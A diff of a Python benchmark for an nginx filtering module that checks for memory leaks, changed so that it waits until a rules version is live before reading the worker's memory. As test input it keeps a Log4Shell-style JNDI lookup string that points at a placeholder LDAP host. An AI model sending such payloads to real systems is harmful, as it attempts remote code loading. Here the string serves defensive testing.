@@ -4,10 +4,10 @@ away; then what the worker has grown by, and what a sanitizer's build finds lost
 
     build-aux/nginx-module build-asan && HIKESHI_BUILD=build-asan tests/bench/guard_leaks.py
 """
-import collections, gzip, hashlib, json, os, random, re, shutil, subprocess, sys, tempfile, time
+import collections, gzip, hashlib, json, os, random, re, shutil, subprocess, sys, tempfile
 
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../e2e"))
-from edge import MODULE, Client, Nginx, Upstream, request
+from edge import MODULE, Client, Nginx, Upstream, ask, request, wait_for
 
 BAD = "${jndi:ldap://203.0.113.9:1389/a}"
 HTTP = """hikeshi report; hikeshi_rules DIR/rules; hikeshi_events DIR/events.json; client_body_buffer_size 2k; keepalive_requests 500;
@@ -87,8 +87,15 @@ class Kept:
         self.client = None
 
 
+def settled_kib(edge, version):
+    """What the worker holds when it has the rules that were given last, and none that it makes ready."""
+    if not wait_for(lambda: 'version="%d"' % version in ask(edge.port, "/metrics").body.decode(), 60):
+        raise AssertionError("version %d of the rules is not in use" % version)
+    return resident_kib(edge.worker_pids()[0])
+
+
 def drive(edge, upstream, requests, progress):
-    """(wrong answers, what the worker had half way)"""
+    """(wrong answers, what the worker had half way and at the end)"""
     rng, wrong, half_way, version = random.Random(1), collections.Counter(), 0, 1
     all_kinds = kinds()
     names = list(all_kinds)
@@ -101,7 +108,7 @@ def drive(edge, upstream, requests, progress):
             if progress:
                 progress(i, resident_kib(edge.worker_pids()[0]))
         if i == requests // 2:
-            half_way = resident_kib(edge.worker_pids()[0])
+            half_way = settled_kib(edge, version)
         name = names[rng.randrange(len(names))]
         data, statuses = all_kinds[name]
         if i % 97 == 0:  # a client that goes away
@@ -112,7 +119,7 @@ def drive(edge, upstream, requests, progress):
         if status not in statuses:
             wrong[name, status] += 1
     kept.close()
-    return wrong, half_way
+    return wrong, half_way, settled_kib(edge, version)
 
 
 def sanitizers_env(folder):
@@ -139,9 +146,7 @@ def run(requests=100000, env=None, progress=None):
     edge = Nginx(HTTP.replace("UPSTREAM", str(upstream.port)), files={"rules": rules(1)}, env=env)
     try:
         edge.start(60)
-        wrong, half_way = drive(edge, upstream, requests, progress)
-        time.sleep(0.5)
-        last = resident_kib(edge.worker_pids()[0])
+        wrong, half_way, last = drive(edge, upstream, requests, progress)
     finally:
         edge.stop()
         upstream.stop()
